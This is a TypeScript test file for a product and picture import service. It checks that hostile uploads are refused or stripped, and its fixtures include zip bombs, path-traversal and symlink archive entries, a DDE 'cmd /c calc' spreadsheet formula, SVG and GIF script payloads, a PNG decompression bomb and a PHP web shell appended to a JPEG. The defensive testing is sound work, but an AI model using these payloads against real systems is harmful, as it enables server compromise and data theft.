import { reportOf } from '@bdr/contract/imports/model'
import { crc32, deflateSync } from 'node:zlib'
import { codes } from '@bdr/contract/errors'
import { importProductPictures, importProducts } from '@bdr/contract/products/import'
import { listProducts } from '@bdr/contract/products/calls'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { testWorld, type Client, type TestWorld } from '../../test/app.ts'
import { importAfterJobs, uploadImport } from '../../test/import.ts'
import { picture } from '../../test/pictures.ts'
import { upload } from '../../test/upload.ts'
import {
  errorCell,
  formulaCell,
  writeWorkbook,
  type TestSheet,
} from '../../platform/workbook/test/write-workbook.ts'
import { writeZip, type ZipPart } from '../../platform/workbook/test/write-zip.ts'
import { fileOf, gateValve, valves } from './test/sheets.ts'

let world: TestWorld
let owner: Client
beforeAll(async () => {
  world = await testWorld()
  owner = await world.as('owner')
})
afterAll(() => world.close())

const importFile = (bytes: Uint8Array) =>
  uploadImport(world.app, owner, importProducts, { name: '商品.xlsx', bytes }, { after: 'draft' })
const messagesOf = (found: Awaited<ReturnType<typeof importFile>>) =>
  reportOf(found, 'products')!.faults.map(({ cell, message }) => `${cell ?? ''} ${message}`.trim())
const sheet = (one: Omit<TestSheet, 'name'>) => writeWorkbook([{ name: '楔式闸阀', ...one }])
const storedPictures = async () =>
  (
    await world.database.kysely
      .selectFrom('file')
      .select('id')
      .where('purpose', '=', 'product-picture')
      .execute()
  ).length

/** A workbook with a password is an OLE container with an encrypted package. */
const container = (stream: string) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(stream, 'utf16le')])

describe('a file that is not a list of products', () => {
  const good = () => fileOf(valves(3, 'CUT'))
  const cases: readonly (readonly [string, () => Uint8Array | Promise<Uint8Array>, RegExp])[] = [
    ['a PDF', () => Buffer.from('%PDF-1.7 ...'), /^这是 PDF 文件/],
    ['a picture', () => picture(40, 40).png().toBuffer(), /^这是图片/],
    ['nothing', () => Buffer.from(' \n'), /^文件是空的/],
    ['bytes of no kind', () => Buffer.from([1, 2, 3, 4, 5, 0, 0, 9]), /^无法识别的文件/],
    ['a workbook of 1997', () => container('Workbook'), /^这是旧版 Excel 文件/],
    ['a workbook with a password', () => container('EncryptedPackage'), /^文件设有打开密码/],
    ['half a workbook', async () => (await good()).bytes.subarray(0, 900), /^文件不完整或已损坏/],
    [
      'a bomb',
      () => writeZip([{ name: 'xl/workbook.xml', data: Buffer.alloc(30 * 1024 * 1024) }]),
      /解压后异常膨胀/,
    ],
    [
      'a bomb that lies about its size',
      () => writeZip([{ name: 'xl/workbook.xml', data: Buffer.alloc(30 * 1024 * 1024), claimedSize: 900 }]),
      /^文件不完整或已损坏/,
    ],
    ['an archive of 10,000 files', () => writeZip(files(10_000, '.xml')), /^压缩包内的文件超过/],
    [
      '1,048,576 rows',
      () => sheet({ sheetData: rows(1_048_576) }),
      /^(有内容的行数超过|压缩包内的文件解压后异常膨胀|解压后超过)/,
    ],
    ['a cell in the last row', () => sheet({ sheetData: oneCell('A1048576') }), /^没有找到商品/],
    ['a cell in the column 16,384', () => sheet({ sheetData: oneCell('XFD1') }), /^没有找到商品/],
    [
      '16,384 columns',
      () => sheet({ rows: [Array.from({ length: 16_384 }, (_, index) => `列 ${index}`)] }),
      /列数超过/,
    ],
    ['a document type', () => sheet({ prolog: '<!DOCTYPE x [<!ENTITY y "z">]>' }), /文档类型声明/],
  ]

  it.each(cases)('%s is reported, and nothing of it is stored', async (_name, bytes, message) => {
    const checked = await importFile(await bytes())
    expect(checked).toMatchObject({ state: 'open', isReady: false, read: 0, valid: 0, hasFailedRows: false })
    expect(messagesOf(checked).join()).toMatch(message)
    // the server still works: the next file is read
    expect((await owner.ok(listProducts, {})).total).toBe(0)
  })
})

it('with formulas that call other programs, have failed or were never computed has faults at their cells', async () => {
  const titles = Object.keys(gateValve)
  const values = Object.values(gateValve)
  const row = (at: string, cell: ReturnType<typeof formulaCell>) =>
    values.map((value, index) => (titles[index] === at ? cell : value))
  const checked = await importFile(
    sheet({
      rows: [
        titles,
        row('含税单价', formulaCell('WEBSERVICE(&quot;https://example.com/&quot;&amp;A2)', '12')),
        row('商品名称', formulaCell("cmd|'/c calc'!A0", '12')),
        row('库存', formulaCell('SUM(1,2)', null)),
        row('含税单价', errorCell('#REF!')),
        row('商家编码', formulaCell('&quot;A|&quot;&amp;1', 'A|1')),
      ],
    }),
  )
  expect(messagesOf(checked)).toEqual(
    expect.arrayContaining([
      'E2 公式会访问网络或其他程序，出于安全不予读取，请改为数值',
      'A3 公式会访问网络或其他程序，出于安全不予读取，请改为数值',
      expect.stringMatching(/^I4 公式没有保存计算结果/),
      'E5 公式结果是错误值 #REF!',
    ]),
  )
  expect(messagesOf(checked).filter((message) => message.startsWith('D6'))).toEqual([])
})

describe('files that are not usable pictures', () => {
  const open = async (code: string) => importFile((await fileOf(valves(1, code))).bytes)
  const uploadPictures = async (id: string, zip: Uint8Array) => {
    const file = { name: '图片.zip', bytes: zip }
    const answer = await upload(world.app, importProductPictures, file, { id }, { token: owner.token })
    return { answer, after: await importAfterJobs(world.app, owner, id) }
  }
  /** 20,000 × 20,000 white one-bit pixels take 50 KB. */
  const huge = () => {
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
      const frame = Buffer.alloc(8)
      frame.writeUInt32BE(data.length, 0)
      frame.writeUInt32BE(crc32(body), 4)
      return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
    }
    const head = Buffer.alloc(13)
    head.writeUInt32BE(20_000, 0)
    head.writeUInt32BE(20_000, 4)
    head[8] = 1
    const points = deflateSync(Buffer.alloc(20_000 * 2_501), { level: 9 })
    const signature = Buffer.from('89504e470d0a1a0a', 'hex')
    return Buffer.concat([
      signature,
      chunk('IHDR', head),
      chunk('IDAT', points),
      chunk('IEND', Buffer.alloc(0)),
    ])
  }
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

  it.each([
    ['an SVG with a script', () => Buffer.from(svg), /文件内容不是/],
    ['a GIF that is a script', () => Buffer.from('GIF89a/*x*/=1;alert(1)'), /文件内容不是/],
    [
      'a head of a PNG with a page behind it',
      () => Buffer.from('\x89PNG\r\n\x1a\n<script>', 'latin1'),
      /图片已损坏/,
    ],
    [
      'half a picture',
      async () => (await picture(800, 800).jpeg().toBuffer()).subarray(0, 700),
      /图片已损坏/,
    ],
    ['20,000 × 20,000 points', huge, /百万像素/],
    ['an empty one', () => Buffer.alloc(0), /文件是空的/],
  ] as const)(
    '%s are a fault of their row with the reason, and are not stored',
    async (_name, make, message) => {
      const before = await storedPictures()
      const { id } = await open(`NOPIC${before}${_name.length}`)
      const code = `NOPIC${before}${_name.length}-1`
      const { after } = await uploadPictures(id, writeZip([{ name: `${code}.png`, data: await make() }]))
      expect(after).toMatchObject({ valid: 0, failed: 1 })
      expect(messagesOf(after).join()).toMatch(message)
      expect(await storedPictures()).toBe(before)
    },
  )

  it('keep nothing of what was appended to a valid picture', async () => {
    const { id } = await open('TAIL')
    const photo = await picture(300, 300).jpeg().toBuffer()
    const data = Buffer.concat([photo, Buffer.from('<?php system($_GET[0]); ?>')])
    const { after } = await uploadPictures(id, writeZip([{ name: 'TAIL-1.jpg', data }]))
    expect(after).toMatchObject({ valid: 1, report: { pictureCount: 1 } })
    const { key } = await world.database.kysely
      .selectFrom('file')
      .select('key')
      .where('purpose', '=', 'product-picture')
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow()
    const stored = await world.store.get(key)
    const bytes = Buffer.concat(await stored!.stream.toArray())
    expect(bytes.includes('system(')).toBe(false)
    expect((await sharp(bytes).metadata()).width).toBe(300)
  })

  it.each([
    ['no archive', () => Buffer.from('Rar!....'), 'productImport.notZip'],
    ['half an archive', () => writeZip(files(3, '.png')).subarray(0, 80), 'productImport.zipDamaged'],
    [
      'one with a password',
      () => writeZip([{ name: 'a.png', data: 'x', encrypted: true }]),
      'productImport.zipDamaged',
    ],
    ['10,000 files', () => writeZip(files(10_000, '.png')), 'productImport.zipTooMany'],
    ['a way out', () => writeZip([{ name: '../../etc/a.png', data: 'x' }]), 'productImport.zipPaths'],
    [
      'a way out of Windows',
      () => writeZip([{ name: '..\\..\\a.png', data: 'x' }]),
      'productImport.zipPaths',
    ],
    ['an absolute path', () => writeZip([{ name: '/etc/a.png', data: 'x' }]), 'productImport.zipPaths'],
    [
      'a link',
      () => writeZip([{ name: 'a.png', data: '/etc/passwd', link: true }]),
      'productImport.zipPaths',
    ],
    [
      'a bomb',
      () => writeZip([{ name: 'a.png', data: Buffer.alloc(30 * 1024 * 1024) }]),
      'productImport.zipTooLarge',
    ],
    ['nothing', () => writeZip([{ name: '__MACOSX/._a.png', data: 'x' }]), 'productImport.zipNoPictures'],
  ] as const)('in %s are refused before anything is stored', async (_name, make, key) => {
    const { id } = await open(`ZIP${key.length}${_name.length}`)
    const { answer, after } = await uploadPictures(id, make())
    expect(answer).toMatchObject({ code: codes.refused, key })
    expect(after).toMatchObject({ state: 'open', valid: 1 })
    const archives = world.database.kysely
      .selectFrom('file')
      .select('id')
      .where('purpose', '=', 'import-archive')
    const wrong = (await archives.execute()).length
    expect(wrong).toBe((await archives.where('stored_at', 'is not', null).execute()).length)
  })
})

it('with 15,000 faults in 5,000 rows are all reported, and marked in the workbook of failed rows', async () => {
  const { downloadFailedRows } = await import('@bdr/contract/imports/calls')
  const rows = valves(5_000, 'MANY').map((row, index) => ({
    ...row,
    含税单价: `面议 ${index}`,
    计量单位: '斗',
    税率: '十三',
  }))
  const checked = await importFile((await fileOf(rows)).bytes)
  expect(checked).toMatchObject({
    read: 5_000,
    valid: 0,
    failed: 5_000,
    faultCount: 5_002,
    hasFailedRows: true,
  })
  const bytes = Buffer.from((await owner.ok(downloadFailedRows, { id: checked.id })) as never)
  const { default: ExcelJS } = await import('exceljs')
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(bytes as never)
  let marked = 0
  const titles = Object.keys(gateValve).length
  workbook.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell, column) => {
      const { fgColor } = cell.fill as { fgColor?: { argb?: string } }
      if (column <= titles && fgColor?.argb === 'FFFFE2E0') marked += 1
    }),
  )
  expect(marked).toBe(15_000)
})

function files(count: number, ending: string): ZipPart[] {
  return Array.from({ length: count }, (_, index) => ({ name: `${index}${ending}`, data: 'x' }))
}
const rows = (count: number): string =>
  Array.from(
    { length: count },
    (_, index) => `<row r="${index + 1}"><c r="A${index + 1}"><v>${index * 7}</v></c></row>`,
  ).join('')
const oneCell = (address: string): string =>
  `<row r="${address.replace(/\D/g, '')}"><c r="${address}"><v>1</v></c></row>`
